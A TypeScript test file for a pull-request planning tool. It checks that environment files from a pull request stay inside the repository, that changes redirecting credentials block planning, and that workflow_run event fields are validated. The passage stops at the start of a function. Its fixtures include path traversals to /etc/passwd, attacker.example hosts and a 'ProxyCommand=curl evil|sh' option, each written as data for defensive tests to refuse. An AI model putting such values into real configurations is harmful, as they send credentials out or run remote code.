/**
 * The trusted half of pull-request plans: the pull request's environment files taken as git blobs
 * (extends confined to the repository), the decision which environments the plan identity may
 * plan, and the pull request found from the workflow_run event (every field checked).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadEnvironment } from '../lib/config/load';
import { extractEnvironments, gitReader, insideRepository, MAX_FILE_BYTES, MAX_FILES, type GitReader } from '../lib/github/pr-files';
import { changedPaths, decide } from '../lib/github/pr-plan';
import { runInfo, selectPullRequest } from '../lib/github/pull-request';
import { toArtifact } from '../lib/plan/artifact';
import { parsePlan, PLACEHOLDER_PREFIX } from '../lib/plan/summary';
import { placeholderEnv } from '../scripts/pr-plan';
import { MINIMAL, shared, tempDir } from './helpers';

const root = path.resolve(__dirname, '..');

function repoWith(files: Record<string, string | { link: string }>): { git: string; commit: string } {
  const dir = tempDir();
  const git = (...a: string[]) => execFileSync('git', ['-C', dir, ...a], { encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } }).trim();
  git('init', '-q');
  for (const [name, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    if (typeof content === 'string') fs.writeFileSync(path.join(dir, name), content);
    else fs.symlinkSync(content.link, path.join(dir, name));
  }
  git('add', '-A');
  git('commit', '-qm', 'pr');
  return { git: path.join(dir, '.git'), commit: git('rev-parse', 'HEAD') };
}

describe("the pull request's environment files, as blobs", () => {
  const env = (name: string, ext?: string) => `${ext ? `extends: ${ext}\n` : ''}${MINIMAL.replace('name: test', `name: ${name}`)}`;
  const { git, commit } = repoWith({
    'environments/good.yaml': env('good', './base.yaml'),
    'environments/base.yaml': 'partial: true\nsecrets: [DB_PASSWORD, JWT_SECRET]\n',
    'environments/shared.yaml': env('shared', '../shared/common.yaml'),
    'shared/common.yaml': 'partial: true\n',
    'environments/escape.yaml': env('escape', '../../../../../../etc/passwd'),
    'environments/absolute.yaml': env('absolute', '/etc/passwd'),
    'environments/via.yaml': env('via', './escape.yaml'),
    'environments/missing.yaml': env('missing', './nope.yaml'),
    'environments/linked.yaml': env('linked', './link.yaml'),
    'environments/link.yaml': { link: '/etc/passwd' },
    'environments/big.yaml': `${env('big')}# ${'x'.repeat(300 * 1024)}\n`,
    'environments/notes.txt': 'not an environment',
    'lib/evil.ts': 'process.exit(1)',
  });

  it('writes only regular YAML files whose whole extends chain stays in the repository', () => {
    const out = tempDir();
    const r = extractEnvironments(gitReader(git), commit, out);
    expect(r.written.sort()).toEqual(['environments/base.yaml', 'environments/good.yaml', 'environments/shared.yaml', 'shared/common.yaml']);
    expect(Object.fromEntries(r.refused.map((x) => [x.file, x.reason]))).toEqual({
      'environments/absolute.yaml': 'environments/absolute.yaml extends "/etc/passwd", which leaves the repository tree',
      'environments/big.yaml': 'environments/big.yaml is larger than 262144 bytes',
      'environments/escape.yaml': 'environments/escape.yaml extends "../../../../../../etc/passwd", which leaves the repository tree',
      'environments/link.yaml': 'environments/link.yaml is a symbolic link',
      'environments/linked.yaml': 'environments/link.yaml is a symbolic link',
      'environments/missing.yaml': 'environments/nope.yaml does not exist in the pull request',
      'environments/via.yaml': 'environments/escape.yaml extends "../../../../../../etc/passwd", which leaves the repository tree',
    });
    // nothing else reached the disk, and what did is a regular file the loader can read
    const onDisk = execFileSync('find', [out, '-mindepth', '1'], { encoding: 'utf8' }).trim().split('\n').map((f) => path.relative(out, f)).sort();
    expect(onDisk).toEqual(['environments', 'environments/base.yaml', 'environments/good.yaml', 'environments/shared.yaml', 'shared', 'shared/common.yaml']);
    expect(loadEnvironment(path.join(out, 'environments', 'good.yaml')).config.name).toBe('good');
  });

  it('git plumbing: every entry with its mode, type and exact size (ls-tree pads sizes), the big file refused by the tree before its blob is read', () => {
    const entries = gitReader(git).list(commit, 'environments');
    const big = entries.find((e) => e.path === 'environments/big.yaml')!;
    expect(big).toEqual({ mode: '100644', type: 'blob', size: Buffer.byteLength(`${env('big')}# ${'x'.repeat(300 * 1024)}\n`), path: 'environments/big.yaml' });
    expect(entries.find((e) => e.path === 'environments/notes.txt')!.size).toBe('not an environment'.length);
    expect(entries.find((e) => e.path === 'environments/link.yaml')).toMatchObject({ mode: '120000', type: 'blob' });
    expect(entries.map((e) => e.path)).toEqual([...entries.map((e) => e.path)].sort());
    const reader = gitReader(git);
    const blobs: string[] = [];
    extractEnvironments({ list: reader.list, blob: (c, f) => (blobs.push(f), reader.blob(c, f)) }, commit, tempDir());
    expect(blobs).not.toContain('environments/big.yaml');
  });

  it('written files are 0644 (chmod: whatever the umask, and over a file left in the folder); the copies the extends parser reads are removed after it', () => {
    const tmp = tempDir();
    const out = tempDir();
    fs.mkdirSync(path.join(out, 'environments'));
    fs.writeFileSync(path.join(out, 'environments', 'good.yaml'), 'left over');
    fs.chmodSync(path.join(out, 'environments', 'good.yaml'), 0o666);
    const before = process.env.TMPDIR;
    process.env.TMPDIR = tmp;
    try {
      extractEnvironments(gitReader(git), commit, out);
    } finally {
      if (before === undefined) delete process.env.TMPDIR;
      else process.env.TMPDIR = before;
    }
    expect(fs.statSync(path.join(out, 'environments', 'good.yaml')).mode & 0o777).toBe(0o644);
    expect(fs.statSync(path.join(out, 'environments', 'base.yaml')).mode & 0o777).toBe(0o644);
    expect(fs.readdirSync(tmp)).toEqual([]);
  });

  it('a tree whose listing outgrows a default output buffer (1 MiB) is still counted and refused by its number of files', () => {
    const dir = tempDir();
    const git = (input: string, ...a: string[]) => execFileSync('git', ['-C', dir, ...a], { input, encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } }).trim();
    git('', 'init', '-q');
    const blob = git('x: 1\n', 'hash-object', '-w', '--stdin');
    const n = 14_000; // about 85 bytes a line in `ls-tree -r -l -z`
    const envs = git(Array.from({ length: n }, (_, i) => `100644 blob ${blob}\te${String(i).padStart(5, '0')}.yaml\n`).join(''), 'mktree');
    const top = git(`040000 tree ${envs}\tenvironments\n`, 'mktree');
    const c = git('', 'commit-tree', top, '-m', 'many');
    expect(() => extractEnvironments(gitReader(path.join(dir, '.git')), c, tempDir())).toThrow(`the pull request has ${n} environment files; at most ${MAX_FILES} are read`);
  });

  it('refuses a commit that is not a full SHA', () => {
    expect(() => extractEnvironments(gitReader(git), 'HEAD', tempDir())).toThrow(/40-hex/);
    expect(insideRepository('environments/../x.yaml')).toBe(false);
    expect(insideRepository('a/b.yaml')).toBe(true);
  });
});

describe('the pull request\'s files through a git stand-in: every rule of what is written', () => {
  type Entry = string | { readonly text?: string; readonly mode?: string; readonly type?: string; readonly size?: number };
  /** A GitReader over `files`, counting its calls. */
  const fake = (files: Record<string, Entry>) => {
    const calls = { list: [] as string[], blob: [] as string[] };
    const entry = (p: string) => {
      const f = files[p];
      const e = typeof f === 'string' ? { text: f } : f;
      return { mode: e.mode ?? '100644', type: e.type ?? 'blob', size: e.size ?? Buffer.byteLength(e.text ?? ''), path: p };
    };
    const git: GitReader = {
      list: (_c, spec) => {
        calls.list.push(spec);
        return Object.keys(files).filter((p) => p === spec || p.startsWith(`${spec}/`)).map(entry);
      },
      blob: (_c, file) => {
        calls.blob.push(file);
        const f = files[file];
        return Buffer.from(typeof f === 'string' ? f : f.text ?? '');
      },
    };
    return { git, calls };
  };
  const SHA = 'a'.repeat(40);
  const run = (files: Record<string, Entry>, dir?: string) => {
    const { git, calls } = fake(files);
    const out = tempDir();
    return { ...extractEnvironments(git, SHA, out, dir), out, calls };
  };

  it('insideRepository: plain relative paths that stay below the root, written as normalize would', () => {
    for (const p of ['a/b.yaml', 'x.yml', 'a-b_c.d/e', 'a/..b']) expect(insideRepository(p), p).toBe(true);
    for (const p of ['', '/a', '..', '.', '../a', 'a/../../b', 'a/../b', 'a/./b', 'a//b', 'a b', 'ä', 'a\\b', 'a:b', '~/a']) expect(insideRepository(p), p).toBe(false);
  });

  it('environment files are the .yaml and .yml files directly in the folder; others are neither read nor written', () => {
    const r = run({ 'environments/a.yaml': 'name: a\n', 'environments/b.yml': 'name: b\n', 'environments/sub/c.yaml': 'x: 1\n', 'environments/d.yamlx': 'x\n', 'environments/e.YAML': 'x\n', 'other/f.yaml': 'x\n' });
    expect(r).toMatchObject({ written: ['environments/a.yaml', 'environments/b.yml'], refused: [] });
    expect(r.calls.blob).toEqual(['environments/a.yaml', 'environments/b.yml']);
    expect(run({ 'other/f.yaml': 'x: 1\n', 'environments/a.yaml': 'x: 1\n' }, 'other').written).toEqual(['other/f.yaml']);
  });

  it('an executable YAML file is data like any other, written without its mode; a submodule or a tree is not a regular file', () => {
    const r = run({ 'environments/a.yaml': { text: 'name: a\n', mode: '100755' }, 'environments/m.yaml': { mode: '160000', type: 'commit' }, 'environments/t.yaml': { mode: '040000', type: 'tree' }, 'environments/odd.yaml': { mode: '100600' }, 'environments/x.yaml': { mode: '100644', type: 'tree' } });
    expect(r.written).toEqual(['environments/a.yaml']);
    expect(fs.statSync(path.join(r.out, 'environments/a.yaml')).mode & 0o111).toBe(0);
    expect(r.refused).toEqual([
      { file: 'environments/m.yaml', reason: 'environments/m.yaml is not a regular file' },
      { file: 'environments/odd.yaml', reason: 'environments/odd.yaml is not a regular file' },
      { file: 'environments/t.yaml', reason: 'environments/t.yaml is not a regular file' },
      { file: 'environments/x.yaml', reason: 'environments/x.yaml is not a regular file' },
    ]);
  });

  it('the size limit holds at exactly the limit, by the tree and by the blob itself', () => {
    const at = `# ${'x'.repeat(MAX_FILE_BYTES - 3)}\n`;
    expect(Buffer.byteLength(at)).toBe(MAX_FILE_BYTES);
    expect(run({ 'environments/a.yaml': at }).written).toEqual(['environments/a.yaml']);
    expect(run({ 'environments/a.yaml': `${at}x` }).refused).toEqual([{ file: 'environments/a.yaml', reason: `environments/a.yaml is larger than ${MAX_FILE_BYTES} bytes` }]);
    // a tree that understates the size: the blob read is measured too
    expect(run({ 'environments/a.yaml': { text: `${at}x`, size: 10 } })).toMatchObject({ written: [], refused: [{ file: 'environments/a.yaml', reason: `environments/a.yaml is larger than ${MAX_FILE_BYTES} bytes` }] });
  });

  it('extends: resolved from the file\'s folder and normalized; a value that is no string, or names a path with odd characters, leaves the tree', () => {
    const r = run({
      'environments/a.yaml': 'extends: ./x/../base.yaml\n',
      'environments/base.yaml': 'partial: true\n',
      'environments/list.yaml': 'extends: [./base.yaml]\n',
      'environments/num.yaml': 'extends: 5\n',
      'environments/odd.yaml': 'extends: "./b ase.yaml"\n',
      'environments/long.yaml': `extends: ../../${'d/'.repeat(60)}x.yaml\n`,
      'environments/top.yaml': '- extends: ../../etc/passwd\n',
    });
    expect(r.written).toEqual(['environments/a.yaml', 'environments/base.yaml', 'environments/top.yaml']);
    expect(Object.fromEntries(r.refused.map((x) => [x.file, x.reason]))).toEqual({
      'environments/list.yaml': 'environments/list.yaml extends "./base.yaml", which leaves the repository tree',
      'environments/num.yaml': 'environments/num.yaml extends "5", which leaves the repository tree',
      'environments/odd.yaml': 'environments/odd.yaml extends "./b ase.yaml", which leaves the repository tree',
      'environments/long.yaml': `environments/long.yaml extends ${JSON.stringify(`../../${'d/'.repeat(60)}x.yaml`).slice(0, 80)}, which leaves the repository tree`,
    });
    // the base read once, though two files name it (one directly, one as a root)
    expect(r.calls.blob.filter((b) => b === 'environments/base.yaml')).toHaveLength(1);
  });

  it('extends naming a folder: the folder is no file of the pull request, though files lie under it', () => {
    const r = run({ 'environments/a.yaml': 'extends: ../lib\n', 'lib/b.yaml': 'partial: true\n' });
    expect(r).toMatchObject({ written: [], refused: [{ file: 'environments/a.yaml', reason: 'lib does not exist in the pull request' }] });
    expect(r.calls.blob).toEqual(['environments/a.yaml']);
  });

  it('a commit is exactly 40 hex digits: nothing before or after', () => {
    for (const c of [`${SHA}\n`, `${SHA}a`, `x${SHA}`, SHA.toUpperCase()]) expect(() => extractEnvironments(fake({}).git, c, tempDir()), c).toThrow('commit must be a full 40-hex SHA');
  });

  it('a cycle is written for the loader to report with its position; a file outside the folder is looked up once', () => {
    const r = run({ 'environments/a.yaml': 'extends: ../lib/b.yaml\n', 'lib/b.yaml': 'extends: ../environments/a.yaml\n', 'environments/c.yaml': 'extends: ../lib/b.yaml\n' });
    expect(r).toMatchObject({ written: ['environments/a.yaml', 'environments/c.yaml', 'lib/b.yaml'], refused: [] });
    expect(r.calls.list).toEqual(['environments', 'lib/b.yaml']);
  });

  it('at most MAX_FILES environment files, and extends chains that name at most that many files', () => {
    const many = (n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`environments/e${String(i).padStart(3, '0')}.yaml`, 'x: 1\n']));
    expect(run(many(MAX_FILES)).written).toHaveLength(MAX_FILES);
    const { git } = fake(many(MAX_FILES + 1));
    expect(() => extractEnvironments(git, SHA, tempDir())).toThrow(`the pull request has ${MAX_FILES + 1} environment files; at most ${MAX_FILES} are read`);
    // one root whose chain names n files in all, the root included
    const chain = (n: number) => {
      const links = Object.fromEntries(Array.from({ length: n - 2 }, (_, i) => [`lib/c${i}.yaml`, `extends: ./c${i + 1}.yaml\n`]));
      return run({ 'environments/a.yaml': 'extends: ../lib/c0.yaml\n', ...links, [`lib/c${n - 2}.yaml`]: 'x: 1\n' });
    };
    expect(chain(MAX_FILES)).toMatchObject({ refused: [] });
    expect(chain(MAX_FILES).written).toHaveLength(MAX_FILES);
    expect(chain(MAX_FILES + 1)).toMatchObject({ written: [], refused: [{ file: 'environments/a.yaml', reason: `the extends chains name more than ${MAX_FILES} files` }] });
  });
});

describe('the extract command keeps the blobs apart from its own files', () => {
  it('a blob named decisions or refused.json lands under files/, never over the job\'s own data', () => {
    const { git, commit } = repoWith({ 'environments/a.yaml': 'extends: ../decisions\n', decisions: MINIMAL, 'environments/b.yaml': 'extends: ../refused.json\n', 'refused.json': MINIMAL });
    const out = path.join(tempDir(), 'pr');
    const r = spawnSync(process.execPath, [path.join(root, 'dist', 'scripts', 'pr-plan.js'), 'extract', '--commit', commit, '--out', out], { cwd: path.dirname(git), encoding: 'utf8' });
    expect(r.stderr).toBe('');
    expect(fs.readdirSync(out).sort()).toEqual(['files', 'refused.json']);
    expect(JSON.parse(fs.readFileSync(path.join(out, 'refused.json'), 'utf8'))).toEqual([]);
    expect(fs.readdirSync(path.join(out, 'files')).sort()).toEqual(['decisions', 'environments', 'refused.json']);
  });
});

describe('what the plan identity may plan', () => {
  const base = shared(() => loadEnvironment(path.join(root, 'environments', 'production.yaml')).config); // when first read, not while the file is collected
  type Config = ReturnType<typeof base>;
  const withHosts = (hosts: object) => ({ ...base(), hosts } as Config);

  it('plans a pull request that leaves the security-relevant settings alone', () => {
    const pr = { ...base(), services: {} } as Config;
    expect(decide('production', base(), pr)).toEqual({ name: 'production', plan: true });
  });

  it('refuses, naming the setting, when the pull request moves the credentials elsewhere', () => {
    const cases: [object, string][] = [
      [withHosts({ core: { ...base().hosts.core, docker: 'ssh://deploy@attacker.example:22' } }), 'hosts.core.docker'],
      [withHosts({ core: { ...base().hosts.core, sshOptions: ['-o', 'ProxyCommand=curl evil|sh'] } }), 'hosts.core.sshOptions.1'],
      [{ ...base(), state: { ...base().state, endpoint: 'https://attacker.example' } }, 'state.endpoint'],
      [{ ...base(), registries: [] }, 'registries.0'],
      [{ ...base(), github: { ...base().github, owner: 'attacker' } }, 'github.owner'],
    ];
    for (const [pr, path] of cases) {
      const d = decide('production', base(), pr as Config);
      expect(d.plan, path).toBe(false);
      expect(d.reason).toContain(path);
      expect(d.reason).toContain('a maintainer must plan it');
    }
  });

  it('refuses new, removed, unloadable and locally-stated environments', () => {
    expect(decide('x', undefined, base()).reason).toMatch(/not an environment of the default branch/);
    expect(decide('production', base(), undefined).reason).toMatch(/removed or renamed/);
    expect(decide('production', base(), undefined, 'extends leaves the tree').reason).toContain('extends leaves the tree');
    expect(decide('production', { ...base(), state: { backend: 'local' } } as Config, base()).reason).toMatch(/no state to plan against/);
    expect(changedPaths({ a: [1, 2] }, { a: [1, 3] })).toEqual(['a.1']);
  });

  it('an environment without a plan identity is not planned, whatever the pull request changes', () => {
    const none = { ...base(), github: { ...base().github, planEnvironment: undefined } } as Config;
    expect(decide('production', none, none)).toEqual({ name: 'production', plan: false, reason: 'has no `github.planEnvironment`, so no plan identity' });
    const noGithub = { ...base(), github: undefined } as unknown as Config;
    expect(decide('production', noGithub, noGithub).reason).toBe('has no `github.planEnvironment`, so no plan identity');
  });

  it('the refusal names the first five settings changed, sorted, and says when there are more', () => {
    const hosts = (n: number) => withHosts(Object.fromEntries(Array.from({ length: n }, (_, i) => [`h${i}`, { docker: `ssh://x@10.0.0.${i}` }])));
    const five = decide('production', hosts(0), hosts(5)).reason!;
    expect(five).toBe("changes hosts.h0, hosts.h1, hosts.h2, hosts.h3, hosts.h4: settings that decide where the plan identity's credentials go; a maintainer must plan it");
    const six = decide('production', hosts(0), hosts(6)).reason!;
    expect(six).toMatch(/^changes hosts\.h0, hosts\.h1, hosts\.h2, hosts\.h3, hosts\.h4, \.\.\.: settings/);
  });

  it('changed paths: sorted, nested, arrays by index, a type change as the whole, at most `max`', () => {
    expect(changedPaths({ b: 1, a: { y: 1, x: 2 } }, { b: 2, a: { y: 1, x: 3 } })).toEqual(['a.x', 'b']);
    expect(changedPaths({ a: 1 }, { a: 1, c: null }, 'top')).toEqual(['top.c']);
    expect(changedPaths({ a: null }, { a: {} })).toEqual(['a']);
    expect(changedPaths({ a: [1] }, { a: { 0: 1 } })).toEqual(['a']);
    expect(changedPaths(1, 2)).toEqual(['(all)']);
    expect(changedPaths({ a: 1, b: 1, c: 1 }, { a: 2, b: 2, c: 2 }, '', 2)).toEqual(['a', 'b']);
    expect(changedPaths({ a: { x: 1 }, b: 1 }, { a: { x: 2 }, b: 2 }, '', 1)).toEqual(['a.x']);
    expect(changedPaths({ a: [1, 2] }, { a: [1, 2] })).toEqual([]);
  });

  it('gives tofu a placeholder for every secret, never a value', () => {
    expect(placeholderEnv({ variable: { DB_PASSWORD: { sensitive: true }, RELEASE_TAG: {} } })).toEqual({ TF_VAR_DB_PASSWORD: `${PLACEHOLDER_PREFIX}DB_PASSWORD` });
    // the encrypted state must be readable: the passphrase is the one real value, and it is required
    const encrypted = { variable: { DB_PASSWORD: { sensitive: true }, STATE_PASSPHRASE: { sensitive: true } } };
    expect(placeholderEnv(encrypted, 'the-passphrase-1234')).toEqual({ TF_VAR_DB_PASSWORD: `${PLACEHOLDER_PREFIX}DB_PASSWORD`, TF_VAR_STATE_PASSPHRASE: 'the-passphrase-1234' });
    expect(() => placeholderEnv(encrypted)).toThrow(/STACKYARD_PLAN_STATE_PASSPHRASE/);
  });
});

describe('the pull request of a workflow_run', () => {
  const sha = 'a'.repeat(40);
  const event = (run: object) => ({ workflow_run: { id: 42, event: 'pull_request', head_sha: sha, head_branch: 'feature/x', head_repository: { owner: { login: 'forker' } }, pull_requests: [], ...run } });

  it('same repository: the one the event lists with the same head', () => {
    const info = runInfo(event({ pull_requests: [{ number: 7, head: { sha } }, { number: 8, head: { sha: 'b'.repeat(40) } }] }), 'acme/platform');
    expect(selectPullRequest(info)).toEqual({ number: 7, headSha: sha });
  });

  it('forks: the open pull request of this repository with exactly that head', () => {
    const info = runInfo(event({}), 'acme/platform');
    const pr = (number: unknown, over: object = {}) => ({ number, state: 'open', head: { sha }, base: { repo: { full_name: 'acme/platform' } }, ...over });
    expect(selectPullRequest(info, [pr(12), pr(13, { head: { sha: 'c'.repeat(40) } }), pr(14, { base: { repo: { full_name: 'other/repo' } } })])).toEqual({ number: 12, headSha: sha });
    expect(() => selectPullRequest(info, [])).toThrow(/no open pull request/);
    expect(() => selectPullRequest(info, [pr(12), pr(15)])).toThrow(/several pull requests/);
    expect(() => selectPullRequest(info, [pr('12\n13'), pr(-1), pr(1e12), pr(0)])).toThrow(/no open pull request/);
  });

  it('refuses an event with a malformed field', () => {
    const bad: [object, RegExp][] = [
      [{ event: 'push' }, /not pull_request/],
      [{ head_sha: 'abc' }, /head_sha/],
      [{ head_sha: `${sha}\nx=1` }, /head_sha/],
      [{ head_branch: 'x\ny' }, /head_branch/],
      [{ head_branch: '../x' }, /head_branch/],
      [{ head_repository: { owner: { login: 'a b' } } }, /owner/],
      [{ id: '42' }, /run id/],
    ];
    for (const [over, msg] of bad) expect(() => runInfo(event(over), 'acme/platform')).toThrow(msg);
    expect(() => runInfo(event({}), 'acme/platform\n')).toThrow(/GITHUB_REPOSITORY/);
  });

  it('a field of the wrong type is refused even when its text would pass (an array of one SHA prints as the SHA)', () => {
    const bad: [object, RegExp][] = [
      [{ head_sha: [sha] }, /head_sha is not 40 hex digits/],
      [{ head_branch: ['feature/x'] }, /head_branch is not a branch name/],
      [{ head_repository: { owner: { login: ['forker'] } } }, /owner is not a GitHub login/],
      [{ head_repository: {} }, /owner is not a GitHub login/],
      [{ head_repository: null }, /owner is not a GitHub login/],
      [{ id: 0 }, /run id is not a positive integer/],
      [{ id: -3 }, /run id is not a positive integer/],
      [{ id: 2 ** 60 }, /run id is not a positive integer/],
    ];
    for (const [over, msg] of bad) expect(() => runInfo(event(over), 'acme/platform'), JSON.stringify(over)).toThrow(msg);
    for (const e of [{}, { workflow_run: 'pull_request' }, { workflow_run: null }, null]) expect(() => runInfo(e, 'acme/platform')).toThrow('workflow_run event: no workflow_run in the event');
    // what triggered the run is quoted, and cut short
    expect(() => runInfo(event({ event: 'x'.repeat(100) }), 'acme/platform')).toThrow(new RegExp(`^workflow_run event: the run was triggered by "x{39}, not pull_request$`));
  });

  it('the pull requests the event lists: only well-formed ones of this repository', () => {
    const other = 'b'.repeat(40);
    const info = runInfo(event({
      pull_requests: [
        { number: 1, head: { sha } },
        { number: 2, head: { sha }, base: { repo: { url: 'https://api.github.com/repos/acme/platform' } } },
        { number: 3, head: { sha }, base: { repo: { url: 'https://api.github.com/repos/evil/platform' } } },
        { number: 4, head: { sha }, base: { repo: { url: 'https://api.github.com/repos/acme/platform/x' } } },
        { number: '5', head: { sha } }, { number: 0, head: { sha } }, { number: 12345678901, head: { sha } },
        { number: 6, head: { sha: 'short' } }, { number: 7, head: { sha: [sha] } }, { number: 8 }, null,
        { number: 9, head: { sha: other } },
        // a base without its repository says nothing against it, like no base at all
        { number: 10, head: { sha }, base: {} },
      ],
    }), 'acme/platform');
    expect(info.listed).toStrictEqual([{ number: 1, headSha: sha }, { number: 2, headSha: sha }, { number: 9, headSha: other }, { number: 10, headSha: sha }]);
    expect(runInfo(event({ pull_requests: 'nope' }), 'acme/platform').listed).toStrictEqual([]);
    expect(runInfo(event({}), 'acme/platform')).toStrictEqual({ repository: 'acme/platform', runId: 42, headSha: sha, headOwner: 'forker', headBranch: 'feature/x', listed: [] });
  });

  it('candidates from the API: open, a sane number, exactly the head, based on this repository; several name each', () => {
    const info = runInfo(event({}), 'acme/platform');
    const pr = (number: unknown, over: object = {}) => ({ number, state: 'open', head: { sha }, base: { repo: { full_name: 'acme/platform' } }, ...over });
    for (const wrong of [pr(20, { state: 'closed' }), pr(21, { base: {} }), pr(22, { base: null }), pr(23, { head: null }), pr('24'), null]) {
      expect(() => selectPullRequest(info, [wrong]), JSON.stringify(wrong)).toThrow(`no open pull request of acme/platform has head ${sha} (it moved on, or was closed); nothing to comment on`);
    }
    expect(() => selectPullRequest(info, 'nope' as never)).toThrow(/no open pull request/);
    expect(() => selectPullRequest(info, [pr(12), pr(15), pr(12)])).toThrow(`several pull requests have head ${sha} (#12, #15); refusing to guess`);
    // the event's own and the API's same pull request are one
    const listed = runInfo(event({ pull_requests: [{ number: 12, head: { sha } }] }), 'acme/platform');
    expect(selectPullRequest(listed, [pr(12)])).toStrictEqual({ number: 12, headSha: sha });
    expect(selectPullRequest(listed)).toStrictEqual({ number: 12, headSha: sha });
  });

  it('the find-pr command writes only checked values for $GITHUB_OUTPUT', () => {
    const d = tempDir();
    fs.writeFileSync(path.join(d, 'event.json'), JSON.stringify(event({ pull_requests: [{ number: 7, head: { sha } }] })));
    const run = (ev: string) => spawnSync(process.execPath, [path.join(root, 'dist', 'scripts', 'pr-plan.js'), 'find-pr', '--out', path.join(d, 'out')], { encoding: 'utf8', env: { ...process.env, GITHUB_EVENT_PATH: ev, GITHUB_REPOSITORY: 'acme/platform' } });
    expect(run(path.join(d, 'event.json')).status).toBe(0);
    expect(fs.readFileSync(path.join(d, 'out'), 'utf8')).toBe(`number=7\nhead_sha=${sha}\n`);
    fs.writeFileSync(path.join(d, 'bad.json'), JSON.stringify(event({ head_sha: 'x' })));
    const bad = run(path.join(d, 'bad.json'));
    expect(bad.status).toBe(1);
    expect(bad.stderr).toBe('pr-plan: workflow_run event: head_sha is not 40 hex digits\n');
  });
});

describe('the comment from the artifacts', () => {
  const cli = path.join(root, 'dist', 'scripts', 'pr-plan.js');
  const DECISIONS = [{ name: 'production', plan: false, reason: 'changes hosts.core.docker' }, { name: 'staging', plan: true }, { name: 'qa', plan: true }];
  const setup = (untrusted: string | undefined, decisions: object[] = DECISIONS, staging = parsePlanFixture('postgres-major', 'staging'), prEnvironments = false) => {
    const d = tempDir();
    const dec = path.join(d, 'trusted', 'pr-environments', 'decisions');
    fs.mkdirSync(dec, { recursive: true });
    // the pull request's environment files, as `extract` leaves them
    if (prEnvironments) fs.cpSync(path.join(root, 'environments'), path.join(d, 'trusted', 'pr-environments', 'environments'), { recursive: true });
    fs.writeFileSync(path.join(dec, 'decisions.json'), JSON.stringify(decisions));
    fs.writeFileSync(path.join(dec, 'notes.json'), JSON.stringify(['production is not planned with the plan identity: it changes hosts.core.docker.']));
    fs.mkdirSync(path.join(d, 'trusted', 'plan-staging'));
    fs.writeFileSync(path.join(d, 'trusted', 'plan-staging', 'plan-staging.json'), toArtifact([staging]));
    fs.mkdirSync(path.join(d, 'untrusted'));
    if (untrusted !== undefined) fs.writeFileSync(path.join(d, 'untrusted', 'synth-diff.json'), untrusted);
    const r = spawnSync(process.execPath, [cli, 'render', '--trusted', path.join(d, 'trusted'), '--untrusted', path.join(d, 'untrusted', 'synth-diff.json'), '--out', path.join(d, 's.md'), '--meta', path.join(d, 'm.json')], { encoding: 'utf8' });
    return { r, md: fs.existsSync(path.join(d, 's.md')) ? fs.readFileSync(path.join(d, 's.md'), 'utf8') : '', meta: fs.existsSync(path.join(d, 'm.json')) ? JSON.parse(fs.readFileSync(path.join(d, 'm.json'), 'utf8')) : undefined };
  };

  it('shows the trusted plans, the labelled synth diff, and notes for what was not planned or failed', () => {
    const { r, md, meta } = setup(toArtifact([{ name: 'production', changes: [] }]));
    expect(r.status).toBe(3); // the staging plan replaces the database
    expect(md).toContain("**staging**: 1 to add, 0 to change, 1 to replace, 1 to destroy (planned by the base branch's code with the read-only plan identity)");
    expect(md).toContain("**production**: no changes (structural diff computed by the pull request's own code)");
    expect(md).toContain('> production is not planned with the plan identity: it changes hosts.core.docker.');
    expect(md).toContain("> qa: the plan with the plan identity failed; read the plan-qa job's log.");
    expect(meta).toEqual({ dataLoss: true, destroy: true, changes: true, truncated: false, unverified: true });
  });

  it('a forged synth diff decides nothing: production not planned by trusted code is unverified, not "no changes"', () => {
    // the bypass: a pull request changes production's sshOptions (so trusted code does not plan it)
    // and its own code uploads a synth diff saying "no changes"
    const forged = toArtifact([{ name: 'production', changes: [] }]);
    const quiet = { name: 'staging', changes: [] };
    const { r, meta } = setup(forged, [{ name: 'production', plan: false, reason: 'changes hosts.core.sshOptions' }, { name: 'staging', plan: true }], quiet);
    expect(r.status).toBe(0);
    expect(meta).toEqual({ dataLoss: false, destroy: false, changes: false, truncated: false, unverified: true });
    // and a forged data loss or destroy does not count either way: only trusted plans do
    const loud = toArtifact([parsePlanFixture('postgres-major', 'production')]);
    const second = setup(loud, [{ name: 'production', plan: false, reason: 'x' }, { name: 'staging', plan: true }], quiet);
    expect(second.r.status).toBe(0);
    expect(second.meta).toMatchObject({ dataLoss: false, destroy: false, changes: false, unverified: true });
  });

  it('every environment planned by trusted code: verified, whatever the synth diff says', () => {
    const { r, meta } = setup(toArtifact([{ name: 'staging', changes: [] }]), [{ name: 'staging', plan: true }], { name: 'staging', changes: [] });
    expect(r.status).toBe(0);
    expect(meta).toEqual({ dataLoss: false, destroy: false, changes: false, truncated: false, unverified: false });
  });

  it('pictures the services each plan touches, with neighbours from the pull request\'s environment files', () => {
    const { md } = setup(toArtifact([{ name: 'production', changes: [] }]), DECISIONS, undefined, true);
    const block = /\*\*staging: services this plan touches\*\* \((\d+) touched, (\d+) neighbours for context\)\n\n```mermaid\nflowchart LR\n([^`]*)```/.exec(md);
    expect(block, md).not.toBeNull();
    expect(block![3]).toMatch(/\["db<br\/>postgres ×1<br\/>→ replaced"\]/);
    expect(block![3]).toMatch(/ -->\|"uses"\| /);
    expect(md.indexOf('```mermaid')).toBeLessThan(md.indexOf('<details>'));
    // production's diff changes nothing: no picture for it
    expect(md).not.toContain('production: services this plan touches');
    // without the files: the touched services, no arrows
    expect(setup(toArtifact([{ name: 'production', changes: [] }])).md).toContain('environment file not read, so no arrows');
  });

  it('a missing or forged synth diff is a note, never a failure or raw content', () => {
    for (const bad of [undefined, '{"kind":"stackyard-plan-summary","version":1,"plans":[{"name":"x","changes":[],"run":"sh"}]}']) {
      const { r, md } = setup(bad);
      expect(r.status, String(bad)).toBe(3);
      expect(md).toMatch(/> The pull request's structural diff could not be read: /);
      expect(md).not.toMatch(/\*\*x\*\*/);
    }
  });
});

function parsePlanFixture(fixture: string, name: string) {
